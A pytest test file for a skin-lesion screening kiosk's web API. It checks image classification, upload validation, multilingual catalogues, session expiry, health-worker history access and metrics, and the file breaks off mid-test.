"""The kiosk's JSON API on the real thing: replay camera of HAM10000 images, the real int8 model, real history.

Every endpoint, with good and bad input; every error is JSON with a 4xx status and the server keeps serving.
Also the catalogues and the page template: every string the page shows comes from a catalogue key that exists
in all three languages.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import shutil
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
from conftest import PRETRAINED
from PIL import Image

from edge.config import load_settings
from edge.kiosk import i18n
from edge.kiosk.app import _mjpeg, create_app
from edge.pipeline import Pipeline
from edge.screening import PipelineScreening
from edge.store import History
from edge.types import QualityIssue, Urgency

KIOSK = Path(__file__).resolve().parents[1] / "edge" / "kiosk"
MAX_BYTES = 600_000  # above cat.bmp (524 kB), so it reaches the quality gate; small enough to test the limit
SYMPTOMS = ["itching", "bleeding", "duration_over_4_weeks", "recent_change", "painful"]


@dataclass
class Kiosk:
    settings: object
    pipeline: Pipeline
    screening: PipelineScreening
    history: History | None
    app: object
    stop: threading.Event
    thread: threading.Thread

    @property
    def sessions(self):
        return self.app.extensions["edge"]["sessions"]

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=10)
        if self.history is not None:
            self.history.close()
        self.pipeline.close()


def build_kiosk(root: Path, pack: Path, ham_images: list[Path], *, assistant=None, **kiosk_settings) -> Kiosk:
    """The daemon's wiring, minus the server: replay camera -> pipeline loop thread -> screening -> app."""
    replay = root / "replay"
    replay.mkdir(parents=True, exist_ok=True)
    for path in ham_images[:6]:
        shutil.copy(path, replay / path.name)
    settings = load_settings(None, {
        "state_dir": str(root / "state"),
        "camera": {"source": f"file:{replay}", "fps": 10},
        "inference": {"model_dir": str(pack), "backend": "cpu"},
        "limits": {"max_bytes": MAX_BYTES},
        "kiosk": {"health_worker_mode": True, **kiosk_settings},
    })
    pipeline = Pipeline.from_settings(settings)
    stop = threading.Event()
    thread = threading.Thread(target=pipeline.run, args=(stop,), name="pipeline", daemon=True)
    thread.start()
    kiosk = Kiosk(settings, pipeline, PipelineScreening(pipeline), None, None, stop, thread)
    try:
        deadline = time.monotonic() + 20
        while pipeline.latest is None and time.monotonic() < deadline:
            time.sleep(0.02)
        assert pipeline.latest is not None, "the replay camera delivered no frame"
        if settings.kiosk.health_worker_mode:
            kiosk.history = History(settings.state_dir / "history.sqlite")
        kiosk.app = create_app(kiosk.screening, settings, assistant=assistant, history=kiosk.history)
    except BaseException:
        kiosk.close()  # no pipeline thread left classifying after a failed set-up
        raise
    return kiosk


@contextlib.contextmanager
def no_edge_environment():
    """No EDGE_* setting from the caller's shell (module-scoped fixtures run before the per-test clean_env)."""
    with pytest.MonkeyPatch.context() as patch:
        for key in [k for k in os.environ if k.startswith("EDGE_")]:
            patch.delenv(key)
        yield


@pytest.fixture
def client(kiosk):
    client = kiosk.app.test_client()
    client.post("/api/session/new")
    return client


@pytest.fixture(scope="module")
def plain_app(kiosk):
    """The same screening without health-worker mode (no history kept)."""
    kiosk_settings = kiosk.settings.kiosk.model_copy(update={"health_worker_mode": False})
    settings = kiosk.settings.model_copy(update={"kiosk": kiosk_settings})
    return create_app(kiosk.screening, settings)


@pytest.fixture(scope="module")
def no_camera_app(kiosk):
    """An uploads-only device: the same classifier, no camera."""
    settings = kiosk.settings.model_copy(update={"camera": kiosk.settings.camera.model_copy(update={"source": "none"})})
    pipeline = Pipeline.from_settings(settings)
    yield create_app(PipelineScreening(pipeline), settings)
    pipeline.close()


def png_bytes(width, height, mode="1") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, (width, height)).save(buffer, format="PNG", optimize=True)
    return buffer.getvalue()


def upload(client, data: bytes, name="photo.jpg", lang=None):
    form = {"image": (io.BytesIO(data), name)}
    if lang:
        form["lang"] = lang
    return client.post("/api/classify", data=form, content_type="multipart/form-data")


def capture(client, lang="en") -> dict:
    response = client.post(f"/api/capture?lang={lang}")
    assert response.status_code == 200, response.get_json()
    return response.get_json()


def assert_json_error(response, status, match=None):
    assert response.status_code == status, (response.status_code, response.get_data(as_text=True)[:300])
    assert response.is_json, response.get_data(as_text=True)[:300]
    body = response.get_json()
    assert isinstance(body.get("error"), str) and body["error"]
    if match:
        assert re.search(match, body["error"]), body["error"]
    return body


def metric(text: str, name: str) -> float:
    found = re.search(rf"^{re.escape(name)} (\S+)$", text, re.MULTILINE)
    assert found, f"{name} missing from /metrics"
    return float(found.group(1))


# -- page, catalogues, health ------------------------------------------------------------------------------
def test_page_renders_in_each_language_from_the_catalogue(client):
    for lang in i18n.LANGUAGES:
        page = client.get(f"/?lang={lang}")
        assert page.status_code == 200 and page.mimetype == "text/html"
        html = page.get_data(as_text=True)
        assert f'<html lang="{lang}">' in html
        assert i18n.text(lang, "app.disclaimer") in html.replace("&#39;", "'")
        assert i18n.text(lang, "action.capture") in html
        assert 'id="history-open"' in html  # health-worker mode
        embedded = re.search(r'<script id="catalogue" type="application/json">(.*?)</script>', html, re.DOTALL)[1]
        catalogue = json.loads(embedded)
        assert catalogue == i18n.catalogue(lang)
    assert client.get("/?lang=xx").get_data(as_text=True).count('<html lang="en">') == 1
    assert client.get("/static/app.js").status_code == 200
    assert client.get("/static/app.css").status_code == 200


def test_page_fetches_nothing_from_outside(client):
    html = client.get("/").get_data(as_text=True)
    js = (KIOSK / "static" / "app.js").read_text()
    css = (KIOSK / "static" / "app.css").read_text()
    for text in (html, js, css):
        assert not re.search(r"(?:https?:)?//[a-z0-9.-]+\.[a-z]{2,}", text, re.IGNORECASE), "external URL in the page"
        assert "@import" not in text
    assert "default-src 'self'" in html


def test_history_button_only_in_health_worker_mode(plain_app):
    assert 'id="history-open"' not in plain_app.test_client().get("/").get_data(as_text=True)


def test_catalogues_have_the_same_keys_and_keep_the_backend_ones():
    keys = {lang: set(json.loads((KIOSK / "i18n" / f"{lang}.json").read_text(encoding="utf-8")))
            for lang in i18n.LANGUAGES}
    assert keys["es"] == keys["en"] and keys["fr"] == keys["en"]
    for lang in i18n.LANGUAGES:
        catalogue = i18n.catalogue(lang)
        for urgency in Urgency:
            assert catalogue[f"urgency.{urgency.value}"] and catalogue[f"next.{urgency.value}"]
        for issue in QualityIssue:
            assert catalogue[f"quality.{issue.value}"]
        assert all(isinstance(v, str) and v.strip() for v in catalogue.values())
    en, es, fr = (i18n.catalogue(lang) for lang in i18n.LANGUAGES)
    untranslated = sorted(key for key in en if es[key] == en[key] and fr[key] == en[key])
    assert untranslated == ["lang.en", "lang.es", "lang.fr"], untranslated  # language names are their own


def test_every_key_the_page_uses_exists():
    template = (KIOSK / "templates" / "index.html").read_text()
    js = (KIOSK / "static" / "app.js").read_text()
    used = set(re.findall(r'data-i18n="([\w.]+)"', template))
    used |= set(re.findall(r'\bt\("([\w.]+)"\)', template))
    used |= {pair.split(":")[1] for attr in re.findall(r'data-i18n-attr="([^"]+)"', template)
             for pair in attr.split(";")}
    used |= {f"symptom.{s}" for s in SYMPTOMS} | {f"lang.{lang}" for lang in i18n.LANGUAGES}
    used |= {key for key in re.findall(r'"((?:[a-z]+)\.[a-z_0-9]+)"', js) if not key.endswith((".png", ".js"))}
    used |= {f"abstain.{reason}" for reason in ("low_confidence", "out_of_distribution")}
    missing = sorted(key for key in used if "{" not in key and key not in i18n.catalogue("en"))
    assert not missing, missing
    assert "action.capture" in used and "chat.disabled" in used and "error.network" in used


def test_template_has_no_literal_user_facing_text():
    template = (KIOSK / "templates" / "index.html").read_text()
    stripped = re.sub(r"\{#.*?#\}|\{%.*?%\}|\{\{.*?\}\}|<!--.*?-->", " ", template, flags=re.DOTALL)
    stripped = re.sub(r"<script\b.*?</script>|<style\b.*?</style>", " ", stripped, flags=re.DOTALL)
    text = re.sub(r"<[^>]*>", " ", stripped)
    assert not re.findall(r"[^\W\d_]{2,}", text), "literal text in the template"
    for attr in ("alt", "title", "placeholder", "aria-label"):
        for value in re.findall(rf'\s{attr}="([^"]*)"', stripped):
            assert not re.search(r"[^\W\d_]", value), f"literal {attr}={value!r}"


def test_catalogue_endpoint(client):
    es = client.get("/api/i18n/es")
    assert es.status_code == 200 and es.get_json()["action.capture"] == "Capturar"
    assert_json_error(client.get("/api/i18n/de"), 404, "unknown language")


def test_health(client):
    body = client.get("/health").get_json()
    assert body["status"] == "ok" and body["version"]
    assert body["camera"]["state"] == "ok" and body["camera"]["spec"].startswith("file:")
    assert body["inference"]["backend"] == "cpu"
    assert body["llm"] == {"status": "disabled"} and body["mqtt"] == {"status": "disabled"}


def test_metrics_move_after_a_capture(client):
    before = client.get("/metrics")
    assert before.status_code == 200 and before.mimetype == "text/plain"
    assert "# TYPE edge_classifications_total counter" in before.get_data(as_text=True)
    capture(client)
    after = client.get("/metrics").get_data(as_text=True)
    counted = metric(before.get_data(as_text=True), "edge_classifications_total")
    assert metric(after, "edge_classifications_total") == counted + 1
    assert metric(after, "edge_classify_latency_ms_count") >= 1
    assert metric(after, "edge_frames_total") > 0
    assert 'edge_rejects_total{reason="not_skin"}' in after


def test_metrics_keep_every_digit_of_large_counters():
    """A kiosk at 10 frames/s passes a million frames in 28 hours: the counter must still move by one."""
    from edge.kiosk.metrics import render

    stats = {"frames": 1_234_567, "classifications": 1_000_001, "rejects": {}, "camera_down_reads": 0,
             "latency_buckets": [0] * 8, "latency_sum_ms": 2_345_678.25, "held_images": 0}
    text = render(stats, 1_300_000.5, None)
    assert metric(text, "edge_frames_total") == 1_234_567 and "1234567" in text
    assert "edge_classifications_total 1000001" in text and "e+" not in text


def test_unknown_route_and_method_are_json(client):
    assert_json_error(client.get("/api/nothing-here"), 404)
    assert_json_error(client.get("/api/capture"), 405)


# -- preview and stream ------------------------------------------------------------------------------------
def test_preview(client):
    body = client.get("/api/preview?lang=fr").get_json()
    assert body["camera"] is True and isinstance(body["ok"], bool) and isinstance(body["index"], int)
    assert isinstance(body["guidance"], list)
    french = {i18n.text("fr", f"quality.{issue.value}") for issue in QualityIssue}
    assert all(text in french for text in body["guidance"])


def test_stream_sends_jpeg_parts(client):
    response = client.get("/api/stream.mjpg?frames=2")
    assert response.status_code == 200
    assert response.mimetype == "multipart/x-mixed-replace"
    data = response.get_data()
    parts = [part for part in data.split(b"--frame\r\n") if part]
    assert len(parts) == 2
    for part in parts:
        head, jpeg = part.split(b"\r\n\r\n", 1)
        assert b"Content-Type: image/jpeg" in head
        length = int(re.search(rb"Content-Length: (\d+)", head)[1])
        jpeg = jpeg[:length]
        assert jpeg[:2] == b"\xff\xd8" and jpeg[-2:] == b"\xff\xd9"
        assert Image.open(io.BytesIO(jpeg)).size[0] > 0


def test_no_camera_means_uploads_only(no_camera_app, ham_images):
    client = no_camera_app.test_client()
    assert client.get("/api/preview").get_json() == {"camera": False}
    assert_json_error(client.get("/api/stream.mjpg"), 409, "upload a photo")
    assert_json_error(client.post("/api/capture"), 409, "upload a photo")
    assert upload(client, ham_images[0].read_bytes()).status_code == 200


# -- capture and upload ------------------------------------------------------------------------------------
RESULT_FIELDS = {"id", "label", "display_name", "confidence", "probabilities", "urgency", "abstained", "abstain_reason",
                 "quality", "latency_ms", "model", "backend", "timestamp", "urgency_text", "next_step", "saliency_url"}


def test_capture_returns_a_result(client):
    result = capture(client, "es")
    assert RESULT_FIELDS <= set(result)
    assert result["model"]["name"] == "imagenet-mobilenetv2-int8" and result["backend"] == "cpu"
    assert len(result["probabilities"]) == 1001
    assert abs(sum(result["probabilities"].values()) - 1) < 0.01
    assert result["probabilities"][result["label"]] == pytest.approx(result["confidence"], abs=1e-6)
    assert result["urgency"] in {u.value for u in Urgency}
    assert result["urgency_text"] == i18n.text("es", f"urgency.{result['urgency']}")
    assert result["next_step"] == i18n.text("es", f"next.{result['urgency']}")
    assert result["quality"]["ok"] is True
    assert result["saliency_url"] == f"/api/saliency/{result['id']}.png"


def test_upload_of_a_real_photo(client, ham_images):
    response = upload(client, ham_images[3].read_bytes(), ham_images[3].name, lang="fr")
    assert response.status_code == 200, response.get_json()
    result = response.get_json()
    assert RESULT_FIELDS <= set(result)
    assert result["next_step"] == i18n.text("fr", f"next.{result['urgency']}")
    assert client.get(result["saliency_url"]).status_code == 200


@pytest.mark.parametrize("case, status, match", [
    ("text", 400, "not an image"),
    ("empty", 400, "empty file"),
    ("truncated", 400, "corrupt or truncated"),
    ("bomb", 400, r"12000x12000 \(144 MP\)"),
    ("over_limit", 413, "larger than the upload limit"),
    ("over_request_limit", 413, "larger than the upload limit"),
    ("missing_field", 400, "multipart form field 'image'"),
    ("not_multipart", 400, "multipart form field 'image'"),
])
def test_bad_uploads_are_json_4xx_and_the_server_keeps_serving(client, ham_images, case, status, match):
    good = ham_images[0].read_bytes()
    if case == "missing_field":
        response = client.post("/api/classify", data={"photo": (io.BytesIO(good), "a.jpg")},
                               content_type="multipart/form-data")
    elif case == "not_multipart":
        response = client.post("/api/classify", data=good, content_type="image/jpeg")
    else:
        data = {"text": b"this is not an image at all\n" * 10, "empty": b"", "truncated": good[: len(good) // 3],
                "bomb": png_bytes(12_000, 12_000), "over_limit": good + b"\0" * (MAX_BYTES + 10 - len(good)),
                "over_request_limit": b"\xff" * (MAX_BYTES * 3)}[case]
        response = upload(client, data)
    assert_json_error(response, status, match)
    assert client.get("/health").status_code == 200
    assert upload(client, good).status_code == 200


def test_non_skin_upload_asks_for_a_retake_in_the_users_language(client):
    cat = (PRETRAINED / "cat.bmp").read_bytes()
    for lang in i18n.LANGUAGES:
        response = upload(client, cat, "cat.bmp", lang=lang)
        assert response.status_code == 422
        body = response.get_json()
        assert body["error"] == "retake"
        assert body["quality"]["ok"] is False and body["quality"]["issues"] == ["not_skin"]
        assert body["guidance"] == [i18n.text(lang, "quality.not_skin")]
    # the language can also come from the query string
    response = client.post("/api/classify?lang=es", data={"image": (io.BytesIO(cat), "cat.bmp")},
                           content_type="multipart/form-data")
    assert response.get_json()["guidance"] == [i18n.text("es", "quality.not_skin")]


# -- saliency and sessions ---------------------------------------------------------------------------------
def test_saliency_png(client):
    result = capture(client)
    response = client.get(result["saliency_url"])
    assert response.status_code == 200 and response.mimetype == "image/png"
    assert response.headers["Cache-Control"] == "no-store"
    image = Image.open(io.BytesIO(response.data))
    assert image.format == "PNG" and image.size[0] >= 64


def test_a_big_photo_is_held_as_the_model_sized_view_and_explained_the_same(client, kiosk, ham_images):
    """Saliency needs only the model's crop: holding the whole photo for each of the 16 held results could
    take gigabytes on a Pi (a 40 MP photo decodes to 120 MB)."""
    photo = np.asarray(Image.open(ham_images[1]).convert("RGB").resize((2000, 1500)))
    encoded = io.BytesIO()
    Image.fromarray(photo).save(encoded, format="JPEG", quality=75)
    before = kiosk.screening.stats()["held_bytes"]
    result = upload(client, encoded.getvalue()).get_json()
    spec = kiosk.pipeline.classifier.pack.manifest.input
    assert kiosk.screening.stats()["held_bytes"] - before == spec.width * spec.height * 3
    decoded = np.asarray(Image.open(io.BytesIO(encoded.getvalue())).convert("RGB"))
    expected = kiosk.pipeline.classifier.saliency(decoded, kiosk.pipeline.classifier.pack.manifest.labels.index(
        result["label"])).png()
    assert client.get(result["saliency_url"]).data == expected


def test_an_uploaded_photo_is_never_spooled_to_disk(client, monkeypatch):
    """Werkzeug writes any upload part over 500 kB to a temporary file; the photo must stay in memory."""
    import tempfile
    import traceback

    spooled = []
    real = tempfile.TemporaryFile

    def recording(*args, **kwargs):
        stack = "".join(traceback.format_stack())
        if "formparser" in stack:  # the server parsing the form, not the test client encoding it
            spooled.append(stack.splitlines()[-3:])
        return real(*args, **kwargs)

    monkeypatch.setattr(tempfile, "TemporaryFile", recording)
    data = (PRETRAINED / "cat.bmp").read_bytes()
    assert 500 * 1024 < len(data) < MAX_BYTES
    response = upload(client, data, name="cat.bmp")
    assert response.status_code == 422  # parsed, decoded, refused by the quality gate: the file was read
    assert spooled == []


def test_an_idle_session_expires_even_when_no_request_comes():
    """Expiry used to run only inside requests: with the kiosk browser gone (crashed, a remote tab closed)
    a walked-away patient's results stayed until the next visitor's first request."""
    from mqtt_broker import make_result

    from edge.kiosk.session import SessionKeeper

    cleared = []
    sessions = SessionKeeper(0.3, cleared.append)
    try:
        result = make_result()
        sessions.add(result)
        time.sleep(0.2)
        sessions.touch()  # activity: the timer must wait for the new idle period, not the first one
        time.sleep(0.25)
        assert cleared == []
        deadline = time.monotonic() + 3
        while not cleared and time.monotonic() < deadline:
            time.sleep(0.05)
        assert cleared == [[result.id]]
    finally:
        sessions.close()


def test_what_a_request_queues_for_its_session_never_lands_after_the_sessions_wipe():
    """The assistant is prepared with a result only while the result's session is still the current one, under
    the lock a clear takes: a New patient cannot slip its wipe in before the previous person's prefill."""
    from mqtt_broker import make_result

    from edge.kiosk.session import SessionKeeper

    events = []
    sessions = SessionKeeper(60, lambda ids: events.append(("wipe", ids)))
    try:
        session = sessions.touch()
        result = make_result()
        assert sessions.add(result, started_in=session)
        assert sessions.while_current(session, lambda: events.append(("prepare", result.id)))
        sessions.new_patient()
        assert not sessions.while_current(session, lambda: events.append(("prepare", "late")))
        assert not sessions.add(make_result(), started_in=session)  # nor is a late result added to the next
        assert events == [("prepare", result.id), ("wipe", [result.id])]
    finally:
        sessions.close()


def test_no_api_answer_may_be_cached_by_the_browser(client):
    """Results and the history (with the health worker's notes) must not outlive a purge in a cache."""
    result = capture(client)
    for method, path in [("get", "/api/history"), ("get", "/api/history.csv"), ("get", "/api/preview"),
                         ("post", f"/api/symptoms/{result['id']}"), ("get", "/api/redflag-message?flags=bleeding")]:
        response = getattr(client, method)(path, **({"json": {"symptoms": []}} if method == "post" else {}))
        assert response.headers.get("Cache-Control") == "no-store", path


def test_a_closed_session_keeper_is_never_rearmed_by_a_timer_already_running():
    """close() between a timer firing and re-arming left a live timer that later cleared a closed app."""
    from edge.kiosk.session import SessionKeeper
    from mqtt_broker import make_result

    cleared = []
    sessions = SessionKeeper(60, cleared.append)
    sessions.add(make_result())
    sessions.close()
    sessions._on_timer()  # the timer thread that was already past cancel() when close() ran
    assert sessions._timer is None and cleared == []


def test_unknown_result_id_is_404(client):
    assert_json_error(client.get("/api/saliency/0123456789abcdef.png"), 404, "unknown result id")
    assert_json_error(client.post("/api/symptoms/nope", json={"symptoms": []}), 404)
    assert_json_error(client.get("/api/report/nope"), 404)
    assert_json_error(client.post("/api/chat", json={"message": "hello", "result_id": "nope"}), 404)


def test_new_patient_clears_everything(kiosk, client):
    first, second = capture(client), capture(client)
    assert client.get(first["saliency_url"]).status_code == 200
    assert kiosk.screening.stats()["held_images"] >= 2
    assert client.post("/api/session/new").get_json() == {"ok": True}
    for result in (first, second):
        assert_json_error(client.get(result["saliency_url"]), 404)
        assert_json_error(client.post(f"/api/symptoms/{result['id']}", json={"symptoms": []}), 404)
    assert kiosk.screening.stats()["held_images"] == 0  # the images themselves are gone, not only the ids


def test_a_result_analysed_across_new_patient_is_not_the_next_persons(kiosk, client, ham_images, monkeypatch):
    """New patient pressed (or the page reloaded) while a photo was being analysed: its result must not land
    in the next person's session (their symptoms, chat and report), nor its crop stay held for them."""
    screening = kiosk.screening
    analyse = screening.classify_upload

    def new_patient_meanwhile(data: bytes):
        result = analyse(data)
        kiosk.sessions.new_patient()  # what /api/session/new does, between the analysis and its answer
        return result

    monkeypatch.setattr(screening, "classify_upload", new_patient_meanwhile)
    held_before = screening.stats()["held_images"]
    response = upload(client, ham_images[1].read_bytes())
    assert_json_error(response, 410, match="new patient session started")
    assert response.get_json()["saved_to_history"] is True  # the health worker's log still has the screening
    assert screening.stats()["held_images"] == 0 <= held_before  # its crop is not kept for the next person
    assert client.post("/api/session/touch").get_json() == {"active": False}  # the new session is empty
    monkeypatch.setattr(screening, "classify_upload", analyse)
    assert upload(client, ham_images[1].read_bytes()).status_code == 200  # the next person's own photo is fine


def test_a_person_still_reading_keeps_their_session(kiosk, client, monkeypatch):
    """The page's keep-alive (sent when someone scrolls or types on a result) holds off the idle timeout.
    The session's clock is driven by the test: no real-time margin for a loaded machine to eat."""
    sessions = kiosk.sessions
    configured = sessions.idle_timeout_s
    now = [time.monotonic()]
    monkeypatch.setattr(sessions, "_clock", lambda: now[0])
    try:
        result = capture(client)
        sessions.idle_timeout_s = 0.5
        for _ in range(6):  # 1.2 s in all, more than twice the timeout, touched every 0.2 s
            now[0] += 0.2
            assert client.post("/api/session/touch").get_json() == {"active": True}
        assert client.get(result["saliency_url"]).status_code == 200
        now[0] += 0.6  # now nobody is there
        assert client.post("/api/session/touch").get_json() == {"active": False}
        assert_json_error(client.get(result["saliency_url"]), 404)
    finally:
        sessions.idle_timeout_s = configured


def test_a_fresh_page_is_a_fresh_patient(kiosk, client):
    """A reload (F5, or the kiosk browser restarting) must not hand the last person's session to the next."""
    result = capture(client)
    assert client.get(result["saliency_url"]).status_code == 200
    assert client.get("/").status_code == 200
    assert_json_error(client.get(result["saliency_url"]), 404)
    assert_json_error(client.post(f"/api/symptoms/{result['id']}", json={"symptoms": []}), 404)
    assert kiosk.screening.stats()["held_images"] == 0


def test_idle_timeout_clears_the_session(kiosk, client):
    sessions = kiosk.sessions
    configured = sessions.idle_timeout_s
    assert configured == kiosk.settings.kiosk.idle_timeout_s
    try:
        # the page polls /api/preview while nobody touches it: that alone must clear a walked-away patient
        result = capture(client)
        sessions.idle_timeout_s = 0.2
        time.sleep(0.3)
        cleared = sessions.cleared
        assert client.get("/api/preview").status_code == 200
        assert sessions.cleared == cleared + 1
        assert kiosk.screening.stats()["held_images"] == 0
        assert_json_error(client.get(result["saliency_url"]), 404)
        # and any request about the old result after the timeout finds nothing
        result = capture(client)
        time.sleep(0.3)
        assert_json_error(client.get(result["saliency_url"]), 404)
    finally:
        sessions.idle_timeout_s = configured
    result = capture(client)
    assert client.get(result["saliency_url"]).status_code == 200


# -- symptoms, chat, report --------------------------------------------------------------------------------
def test_symptoms(client):
    result = capture(client)
    none = client.post(f"/api/symptoms/{result['id']}", json={"symptoms": [], "lang": "es"})
    assert none.status_code == 200, none.get_json()
    assert none.get_json()["urgency"] == result["urgency"] and none.get_json()["reasons"] == []
    raised = client.post(f"/api/symptoms/{result['id']}",
                         json={"symptoms": ["bleeding", "recent_change"], "lang": "fr"})
    body = raised.get_json()
    assert raised.status_code == 200 and body["urgency"] == "urgent"
    assert body["urgency_text"] == i18n.text("fr", "urgency.urgent")
    assert body["reasons"] and all(isinstance(r, str) and r for r in body["reasons"])
    every = client.post(f"/api/symptoms/{result['id']}", json={"symptoms": SYMPTOMS})
    assert every.status_code == 200


@pytest.mark.parametrize("payload", [
    {"symptoms": ["itching", "third_arm"]},
    {"symptoms": "itching"},
    {"symptoms": [1, 2]},
    {},
    ["itching"],
])
def test_symptoms_validation(client, payload):
    result = capture(client)
    assert_json_error(client.post(f"/api/symptoms/{result['id']}", json=payload), 400)
    assert_json_error(client.post(f"/api/symptoms/{result['id']}", data="symptoms=itching",
                                  content_type="application/x-www-form-urlencoded"), 400)


def test_chat_without_assistant_is_409(client):
    result = capture(client)
    assert_json_error(client.post("/api/chat", json={"message": "What does this mean?", "result_id": result["id"],
                                                     "lang": "es"}), 409, "assistant is not enabled")
    assert_json_error(client.post("/api/chat", json={"message": "hello"}), 409)


@pytest.mark.parametrize("payload, status", [
    ({"message": "x" * 501}, 413),
    ({"message": "   "}, 400),
    ({"message": 42}, 400),
    ({}, 400),
    (["hello"], 400),
    ({"message": "hello", "result_id": ["a"]}, 400),
    ({"message": "hello", "lang": 7}, 409),  # a silly language falls back to the default; then: no assistant
])
def test_chat_validation(client, payload, status):
    assert_json_error(client.post("/api/chat", json=payload), status)
    assert_json_error(client.post("/api/chat", data="message=hello"), 400)


def test_report_without_assistant_is_409(client):
    result = capture(client)
    for fmt in ("json", "md", "html"):
        assert_json_error(client.get(f"/api/report/{result['id']}?format={fmt}&lang=fr"), 409, "assistant")
    assert_json_error(client.get(f"/api/report/{result['id']}?format=pdf"), 400, "format must be")


# -- health-worker history ---------------------------------------------------------------------------------
def test_history_list_csv_note_and_purge(kiosk, client, ham_images):
    client.post("/api/history/purge")
    first, second = capture(client), upload(client, ham_images[2].read_bytes()).get_json()
    upload(client, (PRETRAINED / "cat.bmp").read_bytes(), "cat.bmp")  # a retake is not a screening
    entries = client.get("/api/history").get_json()["entries"]
    assert [e["id"] for e in entries] == [second["id"], first["id"]]  # newest first
    assert set(entries[0]) == {"id", "time", "label", "display_name", "confidence", "urgency", "abstained",
                               "model_version", "note"}
    assert entries[0]["note"] == ""

    noted = client.post(f"/api/history/{first['id']}/note", json={"note": "referred to clinic B"})
    assert noted.get_json() == {"ok": True}
    notes = {e["id"]: e["note"] for e in client.get("/api/history").get_json()["entries"]}
    assert notes[first["id"]] == "referred to clinic B"
    assert_json_error(client.post("/api/history/nope/note", json={"note": "x"}), 404)
    assert_json_error(client.post(f"/api/history/{first['id']}/note", json={"note": "x" * 1001}), 400)
    assert_json_error(client.post(f"/api/history/{first['id']}/note", json={"note": 5}), 400)
    assert_json_error(client.post(f"/api/history/{first['id']}/note", json=["x"]), 400)
    assert_json_error(client.post(f"/api/history/{first['id']}/note", data="note=x"), 400)

    csv = client.get("/api/history.csv")
    assert csv.status_code == 200 and csv.mimetype == "text/csv"
    assert "attachment" in csv.headers["Content-Disposition"]
    lines = csv.get_data(as_text=True).strip().splitlines()
    assert lines[0] == "id,time,label,display_name,confidence,urgency,abstained,model_version,note"
    assert len(lines) == 3 and "referred to clinic B" in csv.get_data(as_text=True)

    # a new patient clears the session, never the health worker's history
    client.post("/api/session/new")
    assert len(client.get("/api/history").get_json()["entries"]) == 2
    assert client.post("/api/history/purge").get_json() == {"deleted": 2}
    assert client.get("/api/history").get_json() == {"entries": []}
    assert client.get("/api/history.csv").get_data(as_text=True).strip().count("\n") == 0


def test_a_history_that_cannot_be_written_still_gives_the_result(kiosk, client, ham_images, caplog):
    """An SD card the kernel remounted read-only (SQLite's query_only stands in for it) loses the history
    row, never the person's result."""
    database = kiosk.history._db
    database.execute("PRAGMA query_only = 1")
    try:
        response = upload(client, ham_images[3].read_bytes())
    finally:
        database.execute("PRAGMA query_only = 0")
    assert response.status_code == 200
    body = response.get_json()
    assert body["label"] and body["saved_to_history"] is False
    assert "could not save a screening" in caplog.text
    saved = upload(client, ham_images[3].read_bytes()).get_json()
    assert saved["saved_to_history"] is True


def test_history_is_404_without_health_worker_mode(plain_app):
    client = plain_app.test_client()
    for response in (client.get("/api/history"), client.get("/api/history.csv"),
                     client.post("/api/history/x/note", json={"note": "n"}), client.post("/api/history/purge")):
        assert_json_error(response, 404, "health-worker mode")


def test_the_history_is_served_only_to_the_devices_own_browser(kiosk, client, ham_images):
    """With kiosk.host opened to a network, anyone on it could list every screening's time, result and note,
    download the CSV, or purge it (GET requests need no Origin, and any IP address passes the Host check)."""
    upload(client, ham_images[3].read_bytes())
    kept = client.get("/api/history").get_json()["entries"]
    assert kept
    remote = kiosk.app.test_client()
    remote.environ_base["REMOTE_ADDR"] = "192.168.1.20"
    for response in (remote.get("/api/history"), remote.get("/api/history.csv"),
                     remote.post(f"/api/history/{kept[0]['id']}/note", json={"note": "n"}),
                     remote.post("/api/history/purge")):
        assert_json_error(response, 403, "only be opened on the device itself")
    assert client.get("/api/history").get_json()["entries"] == kept  # nothing changed
    opened = kiosk.settings.model_copy(update={"kiosk": kiosk.settings.kiosk.model_copy(
        update={"history_from_network": True})})
    app = create_app(kiosk.screening, opened, history=kiosk.history).test_client()
    app.environ_base["REMOTE_ADDR"] = "192.168.1.20"
    assert app.get("/api/history").get_json()["entries"] == kept
    ipv6 = kiosk.app.test_client()
    ipv6.environ_base["REMOTE_ADDR"] = "::1"
    assert ipv6.get("/api/history").status_code == 200


def test_nothing_but_the_history_db_is_written(kiosk, client, ham_images):
    capture(client)
    upload(client, ham_images[1].read_bytes())
    upload(client, (PRETRAINED / "cat.bmp").read_bytes(), "cat.bmp")
    client.get("/api/stream.mjpg?frames=1")
    client.post("/api/session/new")
    state = kiosk.settings.state_dir
    written = sorted(p.relative_to(state).as_posix() for p in state.rglob("*"))
    assert set(written) <= {"history.sqlite", "history.sqlite-wal", "history.sqlite-shm"}, written
    assert "history.sqlite" in written
    replay = state.parent / "replay"
    assert sorted(p.name for p in replay.iterdir()) == sorted(p.name for p in ham_images[:6])


def test_a_camera_that_goes_down_ends_the_live_preview(tmp_path, imagenet_pack, ham_images):
    """The preview must not keep showing a frozen "ready" frame, and an open MJPEG stream must end (freeing
    its server thread) instead of waiting forever for a frame that never comes."""
    kiosk = build_kiosk(tmp_path, imagenet_pack, ham_images)
    try:
        client = kiosk.app.test_client()
        assert client.get("/api/preview").get_json()["camera"] is True
        assert client.get("/api/stream.mjpg?frames=1").data.startswith(b"--")
        parts = _mjpeg(kiosk.screening, fps=10, limit=None)  # the stream's body, run as a server thread would
        assert next(parts).startswith(b"--")
        shutil.rmtree(tmp_path / "replay")  # the camera goes away mid-stream
        ended, errors = threading.Event(), []

        def drain():
            try:
                for _ in parts:
                    pass
            except Exception as exc:  # noqa: BLE001 - reported below, not lost in the thread
                errors.append(exc)
            finally:
                ended.set()

        threading.Thread(target=drain, daemon=True).start()
        assert ended.wait(15), "the stream kept a server thread after the camera went down"
        assert errors == []
        assert client.get("/api/preview").get_json() == {"camera": False}
        assert_json_error(client.post("/api/capture"), 409)
    finally:
        kiosk.close()


def test_a_camera_dropout_shorter_than_the_poll_does_not_freeze_the_live_preview():
    """The page restarts the stream only when its poll (every 0.7 s) sees the camera gone: a stream that
    ended on a 0.25 s dropout left the patient aiming at a frozen picture under "looks good"."""
    from edge.kiosk.ports import Preview

    class Flicker:  # frame 1, then no live picture for three polls, then frames 2 and 3
        def __init__(self):
            self.calls = 0

        def preview(self):
            self.calls += 1
            index = 1 if self.calls <= 2 else None if self.calls <= 5 else self.calls - 4
